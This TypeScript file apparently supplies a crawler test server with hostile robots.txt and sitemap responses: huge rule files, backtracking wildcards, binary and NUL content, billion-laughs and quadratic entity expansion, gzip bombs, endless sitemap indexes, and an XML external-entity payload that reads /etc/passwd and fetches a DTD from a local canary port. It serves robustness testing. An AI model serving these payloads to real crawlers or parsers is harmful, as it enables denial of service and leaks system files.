/** robots.txt and sitemaps that attack whoever reads them. */
import zlib from "node:zlib";
import { endless, type HostileAttack, head, type Say, whole } from "./answers.ts";

const TEXT = { "content-type": "text/plain" };
const XML = { "content-type": "application/xml" };
const MILLION = 1_000_000;

/** Made before anybody asks: the server that makes it answers the neighbour, too. */
const WIDE = Buffer.from(`<urlset>${locations(MILLION)}</urlset>`);

export const SITE_FILES: readonly HostileAttack[] = [
  robots(
    "million-rules",
    "a million rules",
    rules((number) => `Disallow: /private-${number}/`),
  ),
  robots(
    "wildcards",
    "rules that make a backtracker run for ever",
    rules(() => `Disallow: /${"*a".repeat(40)}*b$`),
  ),
  robots(
    "million-groups",
    "a million groups",
    rules((number) => `User-agent: bot${number}\nDisallow: /`),
  ),
  robots("endless-robots", "a file without end", () => endless(head(TEXT), "Disallow: /private\n".repeat(1000))),
  robots("one-line-robots", "one line of 10 MB", () =>
    whole(`User-agent: *\nDisallow: /${"x".repeat(10 * MILLION)}`, TEXT),
  ),
  robots("nul-robots", "NUL between all letters", () =>
    whole("User-agent: *\0\nDis\0allow: /\0private\n\0".repeat(1000), TEXT),
  ),
  robots("utf-16-robots", "UTF-16", () =>
    whole(Buffer.from("\ufeffUser-agent: *\nDisallow: /private\n", "utf16le"), TEXT),
  ),
  robots("binary-robots", "bytes that are no text", () => whole(Buffer.alloc(MILLION, 0xff), TEXT)),
  robots(
    "million-sitemaps",
    "a hundred thousand sitemaps",
    rules((number) => `Sitemap: /map-${number}.xml`),
  ),
  sitemap("billion-laughs", "entities that grow to gigabytes", () => whole(billionLaughs(), XML)),
  sitemap("quadratic", "one long entity a hundred thousand times", () => whole(quadratic(), XML)),
  {
    name: "external-entity",
    words: "an entity, a type declaration and a style sheet from a private address",
    answer({ path, canaryPorts }) {
      if (path !== "/sitemap.xml") return undefined;
      const at = `http://127.0.0.1:${canaryPorts[0]}/`;
      const type = `<!DOCTYPE urlset SYSTEM "${at}dtd" [<!ENTITY % p SYSTEM "${at}p">%p;<!ENTITY x SYSTEM "file:///etc/passwd">]>`;
      return whole(
        `<?xml-stylesheet href="${at}style"?>${type}<urlset><url><loc>http://e.example/&x;</loc></url></urlset>`,
        XML,
      );
    },
  },
  sitemap("self-index", "an index of itself", () =>
    whole(
      index(["http://self-index.hostile.example/sitemap.xml", "http://self-index.hostile.example/sitemap.xml?"]),
      XML,
    ),
  ),
  {
    name: "endless-indexes",
    words: "indexes of indexes of indexes, each new",
    answer({ path }) {
      if (!/^\/sitemap\.xml$|^\/map/.test(path)) return undefined;
      const children = Array.from(
        { length: 30 },
        (_, number) => `http://endless-indexes.hostile.example/map${path.slice(4)}-${number}`,
      );
      return whole(index(children), XML);
    },
  },
  sitemap("deep-sitemap", "a million open elements", () => whole(`<urlset>${"<url>".repeat(MILLION)}`, XML)),
  sitemap("wide-sitemap", "a million addresses", () => endless(head(XML), WIDE, 1)),
  sitemap("attributes-sitemap", "a million attributes", () =>
    whole(`<urlset${Array.from({ length: MILLION }, (_, number) => ` a${number}="x"`).join("")}>`, XML),
  ),
  sitemap("long-sitemap", "an address of 10 MB", () =>
    whole(`<urlset><url><loc>http://e.example/${"x".repeat(10 * MILLION)}</loc></url></urlset>`, XML),
  ),
  sitemap("gzip-sitemap", "a gzipped file that is 640 MiB", () =>
    endless(head({ "content-type": "application/gzip" }), zlib.gzipSync(Buffer.alloc(16 * 1024 * 1024, " ")), 40),
  ),
  sitemap("endless-sitemap", "text without end", () => endless(head(TEXT), "http://e.example/tea\n".repeat(1000))),
];

function robots(name: string, words: string, make: () => Say): HostileAttack {
  return {
    name,
    words,
    answer: ({ path }) => (path === "/robots.txt" ? make() : undefined),
  };
}

function sitemap(name: string, words: string, make: () => Say): HostileAttack {
  return { name, words, answer: ({ path }) => (path === "/sitemap.xml" ? make() : undefined) };
}

function rules(line: (number: number) => string): () => Say {
  const count = line(0).startsWith("Sitemap") ? MILLION / 10 : MILLION;
  return () => (socket) => {
    let number = 0;
    socket.write(head(TEXT));
    socket.write("User-agent: *\n");
    const go = () => {
      while (number < count && socket.writable) {
        const lines: string[] = [];
        for (; lines.length < 1000; number += 1) lines.push(line(number));
        if (!socket.write(`${lines.join("\n")}\n`)) return void socket.once("drain", go);
      }
      socket.end();
    };
    go();
  };
}

function index(children: readonly string[]): string {
  return `<sitemapindex>${children.map((url) => `<sitemap><loc>${url}</loc></sitemap>`).join("")}</sitemapindex>`;
}

function locations(count: number): string {
  const at = "<url><loc>http://wide-sitemap.hostile.example/l";
  return Array.from({ length: count }, (_, number) => `${at}${number}</loc></url>`).join("");
}

function billionLaughs(): string {
  const entities = Array.from({ length: 12 }, (_, level) => {
    const value = level === 0 ? "lol" : `&l${level - 1};`.repeat(10);
    return `<!ENTITY l${level} "${value}">`;
  });
  return `<!DOCTYPE urlset [${entities.join("")}]><urlset><url><loc>http://e.example/&l11;</loc></url></urlset>`;
}

function quadratic(): string {
  const type = `<!DOCTYPE urlset [<!ENTITY a "${"a".repeat(100_000)}">]>`;
  return `${type}<urlset><url><loc>http://e.example/${"&a;".repeat(100_000)}</loc></url></urlset>`;
}
